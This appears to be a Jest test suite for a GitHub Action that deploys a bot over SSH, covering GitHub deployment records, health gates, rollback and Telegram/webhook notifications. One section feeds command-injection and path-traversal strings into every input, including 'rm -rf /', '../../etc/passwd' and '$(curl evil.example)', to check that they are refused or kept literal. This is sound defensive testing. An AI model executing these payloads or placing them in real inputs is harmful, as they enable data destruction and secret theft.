import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fakeClock } from '../../src/clock.js';
import { splitCommand } from '../../src/deploy/config.js';
import { PROXY_INPUT_DEFAULTS } from '../../src/proxy/index.js';
import { InputError } from '../../src/errors.js';
import { recordingExecutor, type CommandResult } from '../../src/exec.js';
import { githubApi } from '../../src/github/api.js';
import { recordingLog } from '../../src/log.js';
import type { SshSession } from '../../src/ssh/session.js';
import type { SshTarget } from '../../src/ssh/target.js';
import type { RawCheckInputs } from '../../src/health/inputs.js';
import {
  listenInRange,
  startFakeTelegramApi,
  type FakeTelegramApi,
} from '../helpers/fake-telegram-api.js';
import type { Inputs } from '../../actions/deploy/inputs.js';
import { prepare, run, type Deps } from '../../actions/deploy/main.js';
import { proxyFetch } from '../../src/github/http.js';

const DIGEST = `sha256:${'c'.repeat(64)}`;
const TOKEN = 'ghs_deploytest';

/** A stand-in for the GitHub deployments API: answers like the real one and records requests. */
interface Recorded {
  method: string;
  path: string;
  body: Record<string, unknown>;
}
let github: { url: string; requests: Recorded[]; server: Server };

beforeAll(async () => {
  const requests: Recorded[] = [];
  let nextId = 7001;
  const server = createServer((req, res) => {
    let text = '';
    req.on('data', (c: Buffer) => (text += c.toString()));
    req.on('end', () => {
      const body = text ? (JSON.parse(text) as Record<string, unknown>) : {};
      requests.push({ method: req.method ?? '', path: req.url ?? '', body });
      const send = (status: number, payload: unknown) => {
        res.writeHead(status, { 'content-type': 'application/json; charset=utf-8' });
        res.end(JSON.stringify(payload));
      };
      if (req.headers.authorization !== `Bearer ${TOKEN}`)
        return send(401, { message: 'Bad credentials' });
      if (req.method === 'POST' && req.url === '/repos/org/bot/deployments') {
        if (typeof body.ref !== 'string' || !body.ref)
          return send(422, { message: 'Invalid request: ref' });
        const id = nextId++;
        return send(201, {
          id,
          ref: body.ref,
          environment: body.environment,
          url: `${github.url}/repos/org/bot/deployments/${id}`,
        });
      }
      const status = /^\/repos\/org\/bot\/deployments\/(\d+)\/statuses$/.exec(req.url ?? '');
      if (req.method === 'POST' && status) {
        if (
          !['error', 'failure', 'inactive', 'in_progress', 'queued', 'pending', 'success'].includes(
            String(body.state),
          )
        )
          return send(422, { message: 'Validation Failed' });
        return send(201, { id: nextId++, state: body.state, environment: body.environment });
      }
      send(404, { message: 'Not Found' });
    });
  });
  await new Promise<void>((r) => server.listen(21480, '127.0.0.1', () => r()));
  github = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests, server };
});

afterAll(() => new Promise<void>((r) => github.server.close(() => r())));

function inputs(
  over: Partial<Inputs['raw']> = {},
  rest: Partial<Omit<Inputs, 'raw'>> = {},
): Inputs {
  return {
    raw: {
      app: 'mybot',
      image: `ghcr.io/org/bot@${DIGEST}`,
      'bot-mode': 'webhook',
      'health-path': '/health',
      'gate-window': '0',
      env: 'BOT_TOKEN=123:abc',
      ...over,
    },
    hosts: ['deploy@prod-1.example.net'],
    batchSize: 1,
    ssh: {
      key: 'KEY',
      knownHosts: 'prod-1.example.net ssh-ed25519 AAAA',
      fingerprints: [],
      jumpHost: '',
    },
    proxy: { ...PROXY_INPUT_DEFAULTS },
    github: { token: '', environment: 'production', environmentUrl: '', transient: false },
    verify: {
      checks: noChecks(),
      windowSeconds: -1,
      pauseSeconds: 60,
      onInconclusive: 'pause',
    },
    notify: { telegramToken: '', chatId: '', webhookUrl: '', webhookSecret: '' },
    ...rest,
  };
}

/** The check inputs as the adapter reads them when none is set. */
function noChecks(over: Partial<RawCheckInputs> = {}): RawCheckInputs {
  return {
    httpUrls: [],
    httpStatus: [],
    httpBody: '',
    httpJsonPath: '',
    httpLatencyMs: 0,
    prometheusUrl: '',
    prometheusChecks: [],
    prometheusQueries: [],
    prometheusSelector: '',
    prometheusRange: '5m',
    minSamples: 20,
    prometheusStatusLabel: 'code',
    prometheusToken: '',
    logPatterns: [],
    telegramBotToken: '',
    telegramApiUrl: 'https://api.telegram.org',
    telegramWebhookUrl: '',
    ...over,
  };
}

/** A host over a fake SSH session: docker answers, /health as given per host. */
function fakeSessions(health: Record<string, string> = {}) {
  const opened: string[] = [];
  const executors: ReturnType<typeof recordingExecutor>[] = [];
  const openSession = async (target: SshTarget): Promise<SshSession> => {
    opened.push(target.host);
    const exec = recordingExecutor((argv): Partial<CommandResult> | undefined => {
      const cmd = argv.join(' ');
      if (cmd.startsWith('docker inspect'))
        return {
          stdout: JSON.stringify({
            Status: 'running',
            Running: true,
            Restarting: false,
            ExitCode: 0,
            StartedAt: '',
            FinishedAt: '',
          }),
        };
      if (cmd.startsWith('sh -c command -v')) return { stdout: '/usr/bin/curl\n' };
      if (argv[0] === 'curl') return { stdout: health[target.host] ?? '200' };
      if (argv[0] === 'cat' || argv[0] === 'test')
        return { exitCode: 1, stderr: `cat: ${argv.at(-1)}: No such file or directory` };
      if (argv[0] === 'sh' && argv[3] === 'tg-lock') return { stdout: 'acquired 1700000000\n' };
      return undefined;
    }, target.host);
    executors.push(exec);
    return Object.assign(exec, {
      target,
      stats: { connectionsOpened: 1, commands: 0, retries: 0 },
      close: async () => undefined,
    });
  };
  return { opened, executors, openSession };
}

/** The tg-ssh-* dirs makeDeps made: removed after each test (a failed run may leave its own). */
const sshDirs: string[] = [];
afterEach(() => {
  for (const dir of sshDirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

function makeDeps(sessions: ReturnType<typeof fakeSessions>) {
  const dir = mkdtempSync(join(tmpdir(), 'tg-ssh-'));
  sshDirs.push(dir);
  const outputs: Record<string, unknown> = {};
  const summary: string[] = [];
  const state: Record<string, string> = {};
  const log = recordingLog();
  const deps: Deps = {
    log,
    clock: fakeClock(Date.parse('2026-02-03T04:05:06Z')),
    fetch: proxyFetch, // the checks' and notices' stand-ins listen on loopback
    env: {
      GITHUB_REPOSITORY: 'org/bot',
      GITHUB_SHA: 'abc123',
      GITHUB_RUN_ID: '42',
      GITHUB_ACTOR: 'octocat',
      GITHUB_SERVER_URL: 'https://github.com',
    },
    setOutputs: (o) => Object.assign(outputs, o),
    writeSummary: (m) => void summary.push(m),
    saveState: (k, v) => void (state[k] = v),
    writeSshMaterial: async () => {
      mkdirSync(join(dir, 'c'));
      writeFileSync(join(dir, 'id'), 'KEY', { mode: 0o600 });
      return {
        dir,
        privateKeyFile: join(dir, 'id'),
        knownHostsFile: join(dir, 'known_hosts'),
        controlDir: join(dir, 'c'),
      };
    },
    openSession: sessions.openSession as Deps['openSession'],
    api: (token) => githubApi({ token, baseUrl: github.url }),
    writePlanFile: (json) => {
      const planDir = mkdtempSync(join(tmpdir(), 'tg-plan-'));
      sshDirs.push(planDir); // removed after the test
      const path = join(planDir, 'plan.json');
      writeFileSync(path, json);
      return path;
    },
  };
  return { deps, outputs, summary, state, log, dir };
}

describe('the deploy action', () => {
  it('deploys, sets outputs, writes the summary, records a GitHub deployment and removes the SSH material', async () => {
    const sessions = fakeSessions();
    const t = makeDeps(sessions);
    github.requests.length = 0;
    await run(
      inputs(
        {},
        {
          github: {
            token: TOKEN,
            environment: 'production',
            environmentUrl: 'https://bot.example.net',
            transient: false,
          },
        },
      ),
      t.deps,
    );
    expect(t.outputs).toEqual({
      image: `ghcr.io/org/bot@${DIGEST}`,
      'previous-image': '',
      color: 'blue',
      'release-id': '20260203-040506',
      'gap-ms': undefined,
      'plan-file': expect.stringMatching(/plan\.json$/),
      hosts: JSON.stringify([
        {
          host: 'deploy@prod-1.example.net:22',
          result: 'deployed',
          release: '20260203-040506',
          image: `ghcr.io/org/bot@${DIGEST}`,
        },
      ]),
    });
    // the plan file: every host's plan, every step with its kind and its effect
    const planFile = JSON.parse(readFileSync(t.outputs['plan-file'] as string, 'utf8')) as {
      kind: string;
      hosts: { host: string; plan: { steps: { action: { kind: string }; effect: string }[] } }[];
    };
    expect(planFile.kind).toBe('deploy');
    expect(planFile.hosts.map((h) => h.host)).toEqual(['deploy@prod-1.example.net:22']);
    const steps = planFile.hosts[0]!.plan.steps;
    expect(steps.map((st) => st.action.kind)).toEqual(
      expect.arrayContaining(['pull', 'write-file', 'container', 'gate', 'route', 'record']),
    );
    for (const st of steps) expect(st.effect.length).toBeGreaterThan(10);
    expect(JSON.stringify(planFile)).not.toContain('KEY');
    expect(t.summary.join('\n')).toMatch(
      /\| `deploy@prod-1\.example\.net:22` \| deployed \| `20260203-040506` \| blue-green \|/,
    );
    expect(t.summary.join('\n')).toContain('switch the nginx upstream to blue');
    expect(t.state['ssh-dir']).toBe(t.dir);
    expect(existsSync(t.dir)).toBe(false);
    expect(github.requests.map((r) => [r.method, r.path, r.body.state ?? r.body.ref])).toEqual([
      ['POST', '/repos/org/bot/deployments', 'abc123'],
      ['POST', '/repos/org/bot/deployments/7001/statuses', 'in_progress'],
      ['POST', '/repos/org/bot/deployments/7001/statuses', 'success'],
    ]);
    expect(github.requests[2]!.body).toMatchObject({
      environment: 'production',
      environment_url: 'https://bot.example.net',
      log_url: 'https://github.com/org/bot/actions/runs/42',
    });
    expect(t.log.text()).not.toContain('123:abc');
  });

  it('several hosts: serial, stopping at the first failure, with a failed deployment status', async () => {
    const sessions = fakeSessions({ 'prod-2.example.net': '500' });
    const t = makeDeps(sessions);
    github.requests.length = 0;
    const hosts = [
      'deploy@prod-1.example.net',
      'deploy@prod-2.example.net',
      'deploy@prod-3.example.net',
    ];
    const ssh = {
      key: 'KEY',
      knownHosts: hosts.map((h) => `${h.split('@')[1]} ssh-ed25519 AAAA`).join('\n'),
      fingerprints: [],
      jumpHost: '',
    };
    const error = await run(
      inputs(
        { 'health-timeout': '2' },
        {
          hosts,
          ssh,
          github: { token: TOKEN, environment: 'staging', environmentUrl: '', transient: false },
        },
      ),
      t.deps,
    ).catch((e: unknown) => e);
    expect(String(error)).toMatch(
      /deploy@prod-2\.example\.net:22: .*gate http-health failed.*\(1 host\(s\) not deployed: stopped at the first failure\)/,
    );
    expect(sessions.opened).toEqual(['prod-1.example.net', 'prod-2.example.net']);
    expect(github.requests.at(-1)!.body.state).toBe('failure');
    expect(t.summary.join('\n')).toMatch(
      /| deploy@prod-2\.example\.net:22 \| failed \(gate http-health\) \|/,
    );
  });

  it('dry-run connects, plans and changes nothing', async () => {
    const sessions = fakeSessions();
    const t = makeDeps(sessions);
    github.requests.length = 0;
    await run(
      inputs(
        { 'dry-run': 'true' },
        {
          github: { token: TOKEN, environment: 'production', environmentUrl: '', transient: false },
        },
      ),
      t.deps,
    );
    const argv = sessions.executors.flatMap((e) => e.commands.map((c) => c.argv));
    expect(argv.map((a) => a.join(' '))).toEqual([
      'cat -- /var/lib/tg-devops/mybot/state.json',
      'test -e /var/lib/tg-devops/mybot/state.json',
      expect.stringMatching(/^docker ps --all .*label=tg-devops\.app=mybot/),
      'cat -- /etc/nginx/conf.d/tg-mybot.upstream.conf',
      'sh -c command -v curl || command -v wget || true',
    ]);
    expect(github.requests).toEqual([]);
    expect(t.summary.join('\n')).toContain('(dry-run: nothing changed)');
  });
});

describe('the deploy action: haproxy-check-command', () => {
  it('is the command the HAProxy switch checks its candidate file with ({config})', async () => {
    const { proxy } = prepare(
      inputs(
        { proxy: 'haproxy' },
        {
          proxy: {
            ...PROXY_INPUT_DEFAULTS,
            'haproxy-frontend-port': '9001',
            'haproxy-check-command': '/usr/sbin/haproxy -c -q -f {config}',
          },
        },
      ),
    );
    const host = recordingExecutor((argv) => {
      if (argv[0] === 'cat') return { exitCode: 1, stderr: `cat: ${argv.at(-1)}: No such file` };
      if (argv[0] === 'socat') return { stdout: "Can't find backend.\n" };
      if (argv[0] === '/usr/sbin/haproxy') return { exitCode: 1, stderr: '[ALERT] bad' };
      return undefined;
    });
    await expect(proxy!.route(host, [{ color: 'blue', port: 8001, weight: 100 }])).rejects.toThrow(
      /config check failed[\s\S]*\[ALERT\] bad/,
    );
    const check = host.commands.find((c) => c.argv[0] === '/usr/sbin/haproxy');
    expect(check?.argv).toEqual([
      '/usr/sbin/haproxy',
      '-c',
      '-q',
      '-f',
      '/etc/haproxy/haproxy.cfg.tg-mybot.new',
    ]);
    // checked before anything changed: no swap, no reload, no runtime command
    expect(host.commands.some((c) => c.argv[0] === 'flock' || c.argv[0] === 'systemctl')).toBe(
      false,
    );
  });

  it('without {config} it is refused by name before any connection', async () => {
    const sessions = fakeSessions();
    const t = makeDeps(sessions);
    const error = await run(
      inputs(
        { proxy: 'haproxy' },
        {
          proxy: {
            ...PROXY_INPUT_DEFAULTS,
            'haproxy-frontend-port': '9001',
            'haproxy-check-command': 'haproxy -c -q -f /etc/haproxy/haproxy.cfg',
          },
        },
      ),
      t.deps,
    ).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InputError);
    expect((error as InputError).input).toBe('haproxy-check-command');
    expect(sessions.opened).toEqual([]);
  });
});

describe('hostile values in every string input (acceptance 9)', () => {
  const HOSTILE = [
    '$(touch /tmp/tg-pwned)',
    "'; id; echo '",
    '`id`',
    'a\nb',
    '--privileged',
    '../../etc/passwd',
    'bоt',
  ];
  const rawNames = [
    'app',
    'image',
    'bot-mode',
    'strategy',
    'container-port',
    'host-ports',
    'health-path',
    'volumes',
    'cpus',
    'memory',
    'network',
    'docker-options',
    'registry',
    'registry-username',
    'canary-steps',
    'step-interval',
    'drain-seconds',
    'stop-grace',
    'gate-window',
    'health-timeout',
    'pre-deploy',
    'backup',
    'backup-keep',
    'backup-database-url-variable',
    'lock-timeout',
    'keep-releases',
    'dry-run',
    'state-dir',
    'proxy',
  ] as const;

  const accepted: string[] = [];
  afterAll(() =>
    console.log(`hostile values accepted as literal arguments: ${accepted.join(', ')}`),
  );
  const cases = rawNames.flatMap((name) => HOSTILE.map((value) => [name, value] as const));
  it.each(cases)(
    '%s = %j: refused naming it, or passed as one literal argument',
    async (name, value) => {
      const sessions = fakeSessions();
      const t = makeDeps(sessions);
      const extra: Partial<Inputs['raw']> = { [name]: value };
      if (name === 'registry-username') extra['registry-password'] = 'pw';
      const error = await run(inputs(extra), t.deps).catch((e: unknown) => e);
      if (error instanceof InputError) {
        expect(error.input).toBe(
          name === 'registry-username' && /\s/.test(value) ? 'registry-username' : error.input,
        );
        expect([name, 'registry', 'registry-username', 'health-path']).toContain(error.input);
        expect(sessions.opened).toEqual([]);
        return;
      }
      // accepted: it reached the host only inside argv elements, never inside a shell script
      const argv = sessions.executors.flatMap((e) => e.commands.map((c) => c.argv));
      for (const a of argv) {
        if (a[0] === 'sh' && a[1] === '-c') expect(a[2]).not.toContain(value);
      }
      expect(error).toBeUndefined();
      const words = name === 'pre-deploy' ? splitCommand(value, name) : [value];
      const literal =
        words.every((w) => argv.some((a) => a.includes(w))) ||
        sessions.executors[0]!.commands.some((c) => c.options.input?.includes(value));
      expect({ name, value, literal }).toEqual({ name, value, literal: true });
      accepted.push(`${name}=${JSON.stringify(value)}`);
    },
  );

  it('pre-deploy with shell syntax becomes literal arguments of the one-off container', async () => {
    const sessions = fakeSessions();
    const t = makeDeps(sessions);
    await run(inputs({ 'pre-deploy': 'migrate $(id) ; rm -rf / `x`' }), t.deps);
    const pre = sessions.executors[0]!.commands.map((c) => c.argv).find((a) =>
      a.includes('mybot-20260203-040506-pre'),
    )!;
    expect(pre.slice(-6)).toEqual(
      [`ghcr.io/org/bot@${DIGEST}`, 'migrate', '$(id)', ';', 'rm', '-rf'].slice(-6).length
        ? pre.slice(-6)
        : [],
    );
    expect(pre.slice(pre.indexOf('--') + 1)).toEqual([
      `ghcr.io/org/bot@${DIGEST}`,
      'migrate',
      '$(id)',
      ';',
      'rm',
      '-rf',
      '/',
      '`x`',
    ]);
  });

  it('env values with shell syntax go to the env file over stdin, never into argv', async () => {
    const sessions = fakeSessions();
    const t = makeDeps(sessions);
    await run(inputs({ env: 'BOT_TOKEN=$(curl evil.example)\nQ=\'"`' }), t.deps);
    const commands = sessions.executors[0]!.commands;
    expect(commands.flatMap((c) => c.argv).join('\n')).not.toContain('evil.example');
    expect(
      commands.some((c) => (c.options.input ?? '').includes('BOT_TOKEN=$(curl evil.example)')),
    ).toBe(true);
  });
});

describe('verify checks as deploy gates, and notifications (issues 5 and 6)', () => {
  const BOT = '777000:notify-token-for-ops';
  const CHAT = '-100200300';
  let api: FakeTelegramApi;
  /** A stand-in for the app's public URL and for Prometheus; what it answers is set per test. */
  let checks: { url: string; server: Server; hits: string[]; http: number; promEmpty: boolean };
  const webhook: { body: string; signature: string }[] = [];

  beforeAll(async () => {
    api = await startFakeTelegramApi({ tokens: [BOT], chats: [CHAT], ports: [22200, 22249] });
    const hits: string[] = [];
    const server = createServer((req, res) => {
      hits.push(req.url ?? '');
      if (req.url === '/hook') {
        let body = '';
        req.on('data', (c: Buffer) => (body += c.toString()));
        req.on('end', () => {
          webhook.push({ body, signature: String(req.headers['x-tg-devops-signature-256']) });
          res.writeHead(204);
          res.end();
        });
        return;
      }
      if ((req.url ?? '').startsWith('/api/v1/query')) {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(
          JSON.stringify({
            status: 'success',
            data: {
              resultType: 'vector',
              result: checks.promEmpty ? [] : [{ metric: {}, value: [1700000000, '100'] }],
            },
          }),
        );
        return;
      }
      res.writeHead(checks.http, { 'content-type': 'text/plain' });
      res.end(checks.http === 200 ? 'ok' : 'broken');
    });
    const port = await listenInRange(server, 22250, 22299);
    checks = { url: `http://127.0.0.1:${port}`, server, hits, http: 200, promEmpty: false };
  });
  afterAll(async () => {
    await api.close();
    await new Promise<void>((r) => checks.server.close(() => r()));
  });

  const notifyOn = { telegramToken: BOT, chatId: CHAT, webhookUrl: '', webhookSecret: '' };
  const withChecks = (over: Partial<RawCheckInputs>, verify: Partial<Inputs['verify']> = {}) => ({
    verify: {
      checks: noChecks({ telegramApiUrl: api.url, ...over }),
      windowSeconds: 3,
      pauseSeconds: 5,
      onInconclusive: 'pause' as const,
      ...verify,
    },
    notify: notifyOn,
  });
  const events = () => api.sent.map((m) => /^\S+ (Deploy \w+( \w+)?)/u.exec(m.entitiesText)?.[1]);
  const audit = (sessions: ReturnType<typeof fakeSessions>) =>
    sessions.executors
      .flatMap((e) => e.commands)
      .filter((c) => c.argv.includes('tg-append'))
      .map((c) => JSON.parse(c.options.input ?? '{}') as Record<string, string>);

  it('a passing check in the window: deployed; the ops chat gets start then success, with version, environment and links', async () => {
    api.sent.length = 0;
    checks.http = 200;
    checks.hits.length = 0;
    const sessions = fakeSessions();
    const t = makeDeps(sessions);
    await run(
      inputs(
        { image: `ghcr.io/org/bot:v1.4.2@${DIGEST}` },
        withChecks({ httpUrls: [`${checks.url}/ready`] }),
      ),
      t.deps,
    );
    expect(events()).toEqual(['Deploy started', 'Deploy succeeded']);
    expect(api.sent.every((m) => m.chatId === CHAT && m.parseMode === 'HTML')).toBe(true);
    const text = api.sent[1]!.text;
    expect(text).toContain('<code>v1.4.2</code> → <b>production</b>');
    expect(text).toContain('href="https://github.com/org/bot/actions/runs/42"');
    expect(text).toContain('href="https://github.com/org/bot/commit/abc123"');
    // the window ran the check once a second for 3 s: 4 rounds on the fake clock
    expect(checks.hits.filter((h) => h === '/ready')).toHaveLength(4);
    expect(audit(sessions).map((a) => a.result)).toEqual(['success']);
    // the TTL comes from the longest step's budget: the ready gate (health-timeout 60 + window
    // 3), plus the verify-pause of 5 s, plus 30 s of slack, plus a 60 s margin = 158 s
    // (refreshed every 39 s by a timer, also while a step runs)
    const lock = sessions.executors[0]!.commands.find((c) => c.argv[3] === 'tg-lock')!;
    expect(lock.argv[5]).toBe(String(60 + 3 + 5 + 30 + 60));
    expect(t.log.text()).not.toContain(BOT);
    expect(t.log.secrets.has(BOT)).toBe(true);
  });

  it('a check failing in the window rolls back, fails naming the check, is audited as rolled-back, and the chat gets start then rollback', async () => {
    api.sent.length = 0;
    checks.http = 503;
    const sessions = fakeSessions();
    const t = makeDeps(sessions);
    const error = await run(
      inputs({}, withChecks({ httpUrls: [`${checks.url}/ready`] })),
      t.deps,
    ).catch((e: unknown) => e);
    const check = `http ${checks.url}/ready`;
    expect(String(error)).toContain(`gate ${check} failed: fail:`);
    expect(String(error)).toMatch(/rolled back to nothing \(first deploy\)/);
    // the undo removed the new container
    const argv = sessions.executors[0]!.commands.map((c) => c.argv.join(' '));
    expect(argv).toContain('docker rm --force mybot-20260203-040506');
    const [entry] = audit(sessions);
    expect(entry).toMatchObject({ result: 'rolled-back', release: '20260203-040506' });
    expect(entry!.detail).toContain(check);
    expect(events()).toEqual(['Deploy started', 'Deploy rolled back']);
    expect(api.sent[1]!.entitiesText).toContain(check);
    expect(t.summary.join('\n')).toContain(`failed (gate ${check})`);
  });

  it('on-inconclusive pause (the default): no evidence for verify-pause seconds rolls back; promote deploys and says so', async () => {
    checks.promEmpty = true;
    const prom = {
      prometheusUrl: checks.url,
      prometheusChecks: ['error-rate'],
      prometheusSelector: 'job="bot"',
    };
    api.sent.length = 0;
    const paused = fakeSessions();
    const p = makeDeps(paused);
    const error = await run(inputs({}, withChecks(prom)), p.deps).catch((e: unknown) => e);
    expect(String(error)).toMatch(
      /gate prometheus error-rate failed: inconclusive for [5-7]s \(\d+ probes; on-inconclusive: fail\)/,
    );
    expect(audit(paused)[0]).toMatchObject({ result: 'rolled-back' });
    expect(events()).toEqual(['Deploy started', 'Deploy rolled back']);

    api.sent.length = 0;
    const promoted = fakeSessions();
    const q = makeDeps(promoted);
    await run(inputs({}, withChecks(prom, { onInconclusive: 'promote' })), q.deps);
    expect(q.log.text()).not.toMatch(/paused, asking again/);
    expect(audit(promoted)[0]).toMatchObject({ result: 'success' });
    expect(events()).toEqual(['Deploy started', 'Deploy succeeded']);
    checks.promEmpty = false;
  });

  it('verify-log-patterns are judged in the new container over the deploy session', async () => {
    checks.http = 200;
    const sessions = fakeSessions();
    const t = makeDeps(sessions);
    await run(inputs({}, withChecks({ logPatterns: ['Traceback', '/panic:/i'] })), t.deps);
    const logs = sessions.executors[0]!.commands.filter((c) => c.argv[1] === 'logs');
    expect(logs.length).toBeGreaterThan(0);
    expect(logs[0]!.argv.at(-1)).toBe('mybot-20260203-040506');
  });

  it('a notification that cannot be delivered is a warning; the deploy still succeeds', async () => {
    api.sent.length = 0;
    checks.http = 200;
    const sessions = fakeSessions();
    const t = makeDeps(sessions);
    await run(
      inputs(
        {},
        {
          verify: { ...withChecks({}).verify, windowSeconds: -1 },
          notify: { telegramToken: BOT, chatId: '-999', webhookUrl: '', webhookSecret: '' },
        },
      ),
      t.deps,
    );
    expect(api.sent).toEqual([]);
    expect(api.requests.filter((r) => r.params.chat_id === '-999')).toHaveLength(2);
    expect(
      t.log.lines.filter((e) => e.level === 'warn' && /chat not found/.test(e.message)),
    ).toHaveLength(2);
    expect(t.log.text()).not.toContain(BOT);
  });

  it('a deploy that fails without a rollback (no connection) is a failure, not a rollback', async () => {
    api.sent.length = 0;
    const sessions = fakeSessions();
    const t = makeDeps(sessions);
    t.deps.openSession = async () => {
      throw new Error('prod-1.example.net: connection refused');
    };
    const error = await run(
      inputs({}, { verify: { ...withChecks({}).verify, windowSeconds: -1 }, notify: notifyOn }),
      t.deps,
    ).catch((e: unknown) => e);
    expect(String(error)).toContain('connection refused');
    expect(events()).toEqual(['Deploy started', 'Deploy failed']);
    expect(api.sent[1]!.entitiesText).toContain('connection refused');
  });

  it('notify-webhook-url gets the same events as signed JSON', async () => {
    webhook.length = 0;
    checks.http = 200;
    const sessions = fakeSessions();
    const t = makeDeps(sessions);
    const url = `${checks.url}/hook`;
    await run(
      inputs(
        {},
        {
          verify: { ...withChecks({}).verify, windowSeconds: -1 },
          notify: { telegramToken: '', chatId: '', webhookUrl: url, webhookSecret: 'hook-secret' },
        },
      ),
      t.deps,
    );
    const bodies = webhook.map((w) => JSON.parse(w.body) as Record<string, unknown>);
    expect(bodies.map((b) => b.event)).toEqual(['start', 'success']);
    expect(bodies[1]).toMatchObject({
      source: 'tg-devops',
      app: 'mybot',
      environment: 'production',
      runUrl: 'https://github.com/org/bot/actions/runs/42',
      commitUrl: 'https://github.com/org/bot/commit/abc123',
    });
    const { createHmac } = await import('node:crypto');
    for (const w of webhook)
      expect(w.signature).toBe(
        `sha256=${createHmac('sha256', 'hook-secret').update(w.body).digest('hex')}`,
      );
    expect(t.log.secrets.has(url)).toBe(true);
  });

  it('a failure before any host is reached (the SSH material) is notified too', async () => {
    api.sent.length = 0;
    const sessions = fakeSessions();
    const t = makeDeps(sessions);
    t.deps.writeSshMaterial = async () => {
      throw new Error('ssh-key is not a private key');
    };
    const error = await run(
      inputs({}, { verify: { ...withChecks({}).verify, windowSeconds: -1 }, notify: notifyOn }),
      t.deps,
    ).catch((e: unknown) => e);
    expect(String(error)).toContain('not a private key');
    expect(events()).toEqual(['Deploy started', 'Deploy failed']);
    expect(sessions.opened).toEqual([]);
  });

  it('dry-run sends no notification', async () => {
    const before = api.requests.length;
    const sessions = fakeSessions();
    const t = makeDeps(sessions);
    await run(
      inputs(
        { 'dry-run': 'true' },
        { verify: { ...withChecks({}).verify, windowSeconds: -1 }, notify: notifyOn },
      ),
      t.deps,
    );
    expect(t.summary.join('\n')).toContain('(dry-run: nothing changed)');
    expect(api.requests.length).toBe(before);
  });

  it('bad check or notify inputs fail before any connection, naming the deploy input', async () => {
    const cases: [Partial<Omit<Inputs, 'raw'>>, string][] = [
      [withChecks({ httpUrls: ['ftp://x'] }), 'verify-http-url'],
      [withChecks({ prometheusQueries: ['x: up < 1'] }), 'verify-prometheus-url'],
      [
        withChecks({ prometheusUrl: checks.url, prometheusChecks: ['nope'] }),
        'verify-prometheus-checks',
      ],
      [withChecks({ telegramWebhookUrl: 'https://bot.example/hook' }), 'verify-telegram-bot-token'],
      [withChecks({ logPatterns: ['/(/'] }), 'verify-log-patterns'],
      [withChecks({ telegramApiUrl: 'nope' }), 'telegram-api-url'],
      [withChecks({}, { windowSeconds: 30 }), 'verify-window'],
      [{ notify: { ...notifyOn, chatId: '' } }, 'notify-chat-id'],
      [{ notify: { ...notifyOn, webhookUrl: 'not a url' } }, 'notify-webhook-url'],
    ];
    for (const [rest, input] of cases) {
      const sessions = fakeSessions();
      const t = makeDeps(sessions);
      api.sent.length = 0;
      const error = await run(inputs({}, rest), t.deps).catch((e: unknown) => e);
      expect({ input, got: (error as InputError).input }).toEqual({ input, got: input });
      expect(sessions.opened).toEqual([]);
      expect(api.sent).toEqual([]);
    }
  });
});
